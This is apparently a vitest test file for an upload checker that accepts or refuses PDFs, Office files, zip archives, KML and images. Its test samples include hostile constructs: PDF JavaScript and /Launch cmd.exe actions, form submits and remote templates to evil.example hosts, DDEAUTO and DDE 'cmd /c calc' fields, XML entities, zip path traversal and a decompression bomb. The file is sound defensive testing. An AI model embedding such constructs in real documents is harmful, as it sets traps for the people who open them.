/** Files that may be attached or are refused, and why. */
import { crc32, deflateSync } from "node:zlib";
import { hasText } from "@nihol/locales/text";
import { describe, expect, test } from "vitest";
import { checkFile } from "../../src/file-check/check-file.ts";
import { FileRefused } from "../../src/file-check/refusal.ts";
import { office, zip } from "../support/zip-writer.ts";

/** The kind, or the code of the refusal with the file of an archive that it is about. */
async function verdict(bytes: Buffer | string, name: string): Promise<string> {
  try {
    return await checkFile(Buffer.from(bytes as string), name);
  } catch (error) {
    if (!(error instanceof FileRefused)) throw error;
    expect(hasText(`errors.${error.code}`), error.code).toBe(true);
    return error.entry ? `${error.code} in ${error.entry}` : error.code;
  }
}

const kml =
  '<?xml version="1.0"?><kml><Document><Placemark><name>а</name></Placemark></Document></kml>';
const pdf = (objects: string) => {
  const head = `%PDF-1.7\n${objects}\n`;
  return `${head}xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 >>\nstartxref\n${head.length}\n%%EOF\n`;
};
const objectStream = (inside: string, filter = "/FlateDecode") => {
  const packed = deflateSync(inside).toString("latin1");
  return Buffer.from(
    pdf(
      `4 0 obj << /Type /Obj#53tm /N 1 /First 4 /Filter ${filter} >>\nstream\n${packed}\nendstream endobj`,
    ),
    "latin1",
  );
};
function png(width: number, height: number): Buffer {
  const chunk = (name: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(name), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2], 8);
  const rows = deflateSync(Buffer.alloc(Math.min(height, 10) * (1 + width * 3)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]),
    ...[chunk("IHDR", header), chunk("IDAT", rows), chunk("IEND", Buffer.alloc(0))],
  ]);
}

describe("a PDF", () => {
  test("without anything that acts is taken", async () => {
    expect(await verdict(pdf("1 0 obj << /Type /Catalog >> endobj"), "a.pdf")).toBe("pdf");
    expect(await verdict(objectStream("5 0 << /Type /Page >>"), "a.pdf")).toBe("pdf");
  });

  test("with a script, a program to start or a file inside is refused, however its name is spelled", async () => {
    for (const object of [
      "/S /JavaScript /JS (app.alert(1))",
      "/S /Java#53cript",
      "/S/#4a#61vaScript",
      "/S /Launch /F (cmd.exe)",
      "/Type /EmbeddedFile",
      "/S /Rendition",
    ])
      expect(await verdict(pdf(`1 0 obj << ${object} >> endobj`), "a.pdf"), object).toBe(
        "file_active",
      );
  });

  test("that opens an address, sends a form, leads to another file or has a form of XML is refused", async () => {
    for (const object of [
      "/Type /Catalog /OpenAction << /S /URI /URI (http://evil.example/) >>",
      "/Type /Page /AA << /O << /S /URI /URI (http://evil.example/) >> >>",
      "/Type /Catalog /OpenAction << /S /GoTo /D [0 /Fit] /Next << /S /URI /URI (http://e.example/) >> >>",
      "/S /SubmitForm /F (http://evil.example/)",
      "/S /Submit#46orm /F (http://evil.example/)",
      "/S /ImportData /F (a.fdf)",
      "/S /GoToR /D [0 /Fit] /F (\\\\evil.example\\share\\a.pdf)",
      "/S /GoToE /T << /R /C >>",
      "/S /URI /URI (file://evil.example/share)",
      "/S /URI /URI (\\\\evil.example\\share)",
      "/Type /Catalog /AcroForm << /XFA [(template) 5 0 R] >>",
      "/Type /XObject /Ref << /F << /Type /Filespec /F (http://evil.example/a.pdf) >> >>",
    ])
      expect(await verdict(pdf(`1 0 obj << ${object} >> endobj`), "a.pdf"), object).toBe(
        "file_active",
      );
    for (const object of [
      "/S /URI /URI (https://nihol.example/)",
      "/Type /Catalog /OpenAction [3 0 R /Fit]",
      "/Type /Catalog /OpenAction << /S /GoTo /D [0 /Fit] >>",
    ])
      expect(await verdict(pdf(`1 0 obj << ${object} >> endobj`), "a.pdf"), object).toBe("pdf");
  });

  test("that hides what acts in an earlier revision, behind a long dictionary or other filters is refused", async () => {
    const twice =
      "1 0 obj << /S /URI /URI (file:///etc) >> endobj\n1 0 obj << /Type /Page >> endobj";
    expect(await verdict(pdf(twice), "a.pdf")).toBe("file_active");
    const inside = "5 0 << /AA << /O << /S /URI /URI (http://e.example/) >> >> >>";
    expect(await verdict(objectStream(inside), "a.pdf")).toBe("file_active");
    const packed = deflateSync(inside).toString("latin1");
    const long = `4 0 obj << /Type /ObjStm /N 1 /First 4 /X (${"x".repeat(9000)}) /Filter /FlateDecode >>`;
    const far = pdf(`${long}\nstream\n${packed}\nendstream endobj`);
    expect(await verdict(Buffer.from(far, "latin1"), "a.pdf")).toBe("file_active");
    for (const filter of ["/ASCIIHexDecode", "[/ASCII85Decode]", "/LZWDecode", "/Crypt"])
      expect(await verdict(objectStream(inside, filter), "a.pdf"), filter).toBe("file_uncheckable");
    expect(await verdict(pdf("1 0 obj << /A << endobj"), "a.pdf")).toBe("file_uncheckable");
    const spaces = objectStream(`5 0 ${" ".repeat(40 * 1024 ** 2)}<< >>`);
    expect(await verdict(spaces, "a.pdf")).toBe("file_uncheckable");
  });

  test("with a script in a packed object stream is refused, and so is a stream packed in another way", async () => {
    expect(await verdict(objectStream("5 0 << /S /JavaScript >>"), "a.pdf")).toBe("file_active");
    expect(await verdict(objectStream("x", "[/ASCII85Decode /FlateDecode]"), "a.pdf")).toBe(
      "file_uncheckable",
    );
  });

  test("with a password, or without its end, is refused", async () => {
    expect(await verdict(pdf("trailer << /Encrypt 5 0 R >>"), "a.pdf")).toBe("file_encrypted");
    expect(await verdict(pdf("(the word /Encrypt in a text)"), "a.pdf")).toBe("pdf");
    expect(await verdict(pdf("").slice(0, -8), "a.pdf")).toBe("file_damaged");
    expect(await verdict("%PDF-1.7\nstartxref\n9999\n%%EOF", "a.pdf")).toBe("file_damaged");
  });
});

describe("an Office file", () => {
  test("with its parts is taken, with an embedded image too", async () => {
    expect(await verdict(office("docx"), "a.docx")).toBe("docx");
    expect(
      await verdict(office("xlsx", [{ name: "xl/media/a.png", bytes: png(2, 2) }]), "a.xlsx"),
    ).toBe("xlsx");
  });

  test("with a macro, ActiveX, an embedded program or a template from elsewhere is refused", async () => {
    const part = (name: string, bytes = "x") =>
      verdict(office("docx", [{ name, bytes }]), "a.docx");
    expect(await part("word/vbaProject.bin")).toBe("file_active");
    expect(await part("word/activeX/activeX1.xml")).toBe("file_active");
    expect(await part("word/embeddings/oleObject1.bin")).toBe("file_active");
    expect(await part("word/embeddings/setup.EXE")).toBe("file_active");
    expect(
      await verdict(office("xlsx", [{ name: "xl/macrosheets/sheet1.xml", bytes: "" }]), "a.xlsx"),
    ).toBe("file_active");
    const macro =
      '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>';
    expect(await verdict(office("docx", [], macro), "a.docx")).toBe("file_active");
    const remote =
      '<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>';
    expect(await part("word/_rels/settings.xml.rels", remote)).toBe("file_active");
  });

  test("that fetches an image, a template or a workbook from outside is refused however it is written", async () => {
    const related = (attributes: string) =>
      verdict(
        office("docx", [
          {
            name: "word/_rels/document.xml.rels",
            bytes: `<Relationships><Relationship ${attributes}/></Relationships>`,
          },
        ]),
        "a.docx",
      );
    for (const attributes of [
      `Type='http://x/attachedTemplate' Target='http://evil/x.dotm' TargetMode='External'`,
      `Type="http://x/attached&#84;emplate" Target="http://evil/x.dotm" TargetMode="Ext&#101;rnal"`,
      `Type = "http://x/image" Target = "http://evil/x.png" TargetMode = "External"`,
      `Type="http://x/subDocument" Target="http://evil/x.docx" TargetMode="External"`,
      `Type="http://x/hyperlink" Target="file://evil/share" TargetMode="External"`,
      `Type="http://x/hyperlink" Target="\\\\evil\\share" TargetMode="external "`,
    ])
      expect(await related(attributes), attributes).toBe("file_active");
    expect(
      await related(
        `Type="http://x/hyperlink" Target="https://nihol.example/" TargetMode="External"`,
      ),
    ).toBe("docx");
    expect(await related(`Type="http://x/image" Target="media/a.png"`)).toBe("docx");
  });

  test("with a field that starts or fetches something is refused, cut into pieces too", async () => {
    const body = (xml: string) =>
      verdict(
        office("docx", [{ name: "word/footer1.xml", bytes: `<w:p xmlns:w="w">${xml}</w:p>` }]),
        "a.docx",
      );
    for (const xml of [
      '<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe"/>',
      "<w:fldChar w:fldCharType='begin'/><w:instrText>DD</w:instrText><w:instrText>EAUTO cmd</w:instrText>",
      "<w:instrText>INCLUDE&#80;ICTURE http://evil/x.png</w:instrText>",
      "<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>",
    ])
      expect(await body(xml), xml).toBe("file_active");
    expect(await body("<w:fldSimple w:instr=' PAGE '/><w:t>DDE and IMPORT</w:t>")).toBe("docx");
    const link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>';
    const book = office("xlsx", [{ name: "xl/externalLinks/externalLink1.xml", bytes: link }]);
    expect(await verdict(book, "a.xlsx")).toBe("file_active");
    expect(await body("<w:p")).toBe("file_uncheckable");
  });

  test("that declares entities is refused, in UTF-16 too", async () => {
    const bomb = '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>';
    const wide = Buffer.from(`\ufeff${bomb}`, "utf16le");
    for (const bytes of [bomb, wide])
      expect(await verdict(office("docx", [{ name: "word/a.xml", bytes }]), "a.docx")).toBe(
        "file_active",
      );
  });

  test("of another program, or a DOCX that is none, is refused", async () => {
    const types =
      '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>';
    expect(await verdict(zip([{ name: "[Content_Types].xml", bytes: types }]), "a.pptx")).toBe(
      "file_kind",
    );
    expect(await verdict(zip([{ name: "[Content_Types].xml", bytes: "<Types/>" }]), "a.docx")).toBe(
      "archive_damaged",
    );
    expect(await verdict(office("docx"), "a.xlsx")).toBe("file_name_mismatch");
  });
});

describe("an archive", () => {
  test("of files that may be attached is taken, with folders and what a Mac adds", async () => {
    const mac = { name: "__MACOSX/._a.kml", bytes: Buffer.from([0, 5, 0x16, 7, 1, 2]) };
    const parts = [{ name: "ҷой/", bytes: "" }, { name: "ҷой/а.kml", bytes: kml }, mac];
    expect(await verdict(zip(parts), "a.zip")).toBe("zip");
    expect(await verdict(zip([{ name: "doc.kml", bytes: kml }]), "a.kmz")).toBe("zip");
  });

  test("with names in the code page of Windows' archiver is taken, and says them as they were", async () => {
    // "лес.kml" and "бог.kml" of code page 866, of one length: as UTF-8 both would be the same rubbish.
    const written = (parts: [letters: string, code: number[]][]) => {
      const bytes = zip(parts.map(([name]) => ({ name: `${name}.kml`, bytes: kml })));
      for (const [name, code] of parts)
        for (let at = bytes.indexOf(name); at >= 0; at = bytes.indexOf(name)) bytes.set(code, at);
      return bytes;
    };
    const [forest, god] = [
      [0xab, 0xa5, 0xe1],
      [0xa1, 0xae, 0xa3],
    ];
    expect(
      await verdict(
        written([
          ["aaa", forest],
          ["bbb", god],
        ]),
        "a.zip",
      ),
    ).toBe("zip");
    const twice = written([
      ["aaa", forest],
      ["bbb", forest],
    ]);
    await expect(checkFile(twice, "a.zip")).rejects.toMatchObject({
      code: "archive_name_twice",
      params: { what: "лес.kml" },
    });
  });

  test("names the file in it that is refused, and the reason", async () => {
    const inside = (name: string, bytes: string | Buffer) =>
      verdict(zip([{ name, bytes }]), "a.zip");
    expect(await inside("run.exe", "MZ")).toBe("file_kind in run.exe");
    expect(await inside("photo.jpg", "<html>")).toBe("file_kind in photo.jpg");
    expect(await inside("a.pdf", pdf("/S /JavaScript"))).toBe("file_active in a.pdf");
    expect(await inside("b.zip", zip([{ name: "a.kml", bytes: kml }]))).toBe(
      "archive_nested in b.zip",
    );
    expect(await inside("b.kml", zip([{ name: "a.kml", bytes: kml }]))).toBe(
      "archive_nested in b.kml",
    );
    expect(await inside("__MACOSX/._a", "MZ")).toContain("file_kind");
  });

  test("that leaves its folder, unpacks without end or has a name twice is refused", async () => {
    const named = (name: string) => verdict(zip([{ name, bytes: kml }]), "a.zip");
    for (const name of [
      "../a.kml",
      "/a.kml",
      "C:a.kml",
      "x\\..\\a.kml",
      "a/../../b.kml",
      "a\u0000.kml",
    ])
      expect(await named(name), name).toBe("archive_unsafe_path");
    const spaces = `<kml>${" ".repeat(20 * 1024 ** 2)}</kml>`;
    expect(await verdict(zip([{ name: "a.kml", bytes: spaces }]), "a.zip")).toBe("archive_bomb");
    const twice = [
      { name: "a.kml", bytes: kml },
      { name: "a.kml", bytes: kml },
    ];
    expect(await verdict(zip(twice), "a.zip")).toBe("archive_name_twice");
    expect(await verdict(zip([]), "a.zip")).toBe("archive_empty");
    const many = Array.from({ length: 2001 }, (_, i) => ({ name: `${i}.kml`, bytes: kml }));
    expect(await verdict(zip(many), "a.zip")).toBe("archive_too_large");
  });

  test("that lies about sizes, sums or places is damaged", async () => {
    const sound = zip([
      { name: "a.kml", bytes: kml },
      { name: "b.kml", bytes: kml },
    ]);
    const directory = sound.indexOf("PK\x01\x02");
    const changed = (at: number, value: number) => {
      const bytes = Buffer.from(sound);
      bytes.writeUInt32LE(value, at);
      return verdict(bytes, "a.zip");
    };
    expect(await changed(directory + 24, 5)).toBe("file_damaged in a.kml");
    expect(await changed(directory + 16, 1)).toBe("file_damaged in a.kml");
    expect(await changed(directory + 42, 7)).toBe("archive_damaged");
    expect(await verdict(sound.subarray(0, -5), "a.zip")).toBe("archive_damaged");
    expect(await verdict(Buffer.concat([sound, Buffer.from("x")]), "a.zip")).toBe(
      "archive_damaged",
    );
  });
});

test("KML with entities or of another kind is refused, with its place", async () => {
  expect(await verdict(kml, "a.kml")).toBe("kml");
  expect(await verdict('<!DOCTYPE x [<!ENTITY a "b">]><kml/>', "a.kml")).toBe(
    "xml_doctype_refused",
  );
  expect(await verdict("<kml><Document></kml>", "a.kml")).toBe("xml_malformed");
  expect(await verdict("<svg onload='x'/>", "a.kml")).toBe("file_kind");
});

test("images that are cut, or beyond reason in size, are refused", async () => {
  expect(await verdict(png(4, 4), "a.png")).toBe("png");
  expect(await verdict(png(4, 4).subarray(0, -6), "a.png")).toBe("file_damaged");
  expect(await verdict(png(50_000, 50_000), "a.png")).toBe("image_too_large");
  expect(await verdict(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 4, 0, 0]), "a.jpg")).toBe(
    "file_damaged",
  );
});

test("the content decides, and the name must agree with it", async () => {
  expect(await verdict(png(2, 2), "photo")).toBe("png");
  expect(await verdict(png(2, 2), "photo.jpg")).toBe("file_name_mismatch");
  expect(await verdict(png(2, 2), "photo.png.exe")).toBe("file_name_mismatch");
  expect(await verdict("", "a.kml")).toBe("file_empty");
  expect(await verdict("a,b\n=cmd()", "a.csv")).toBe("file_kind");
});
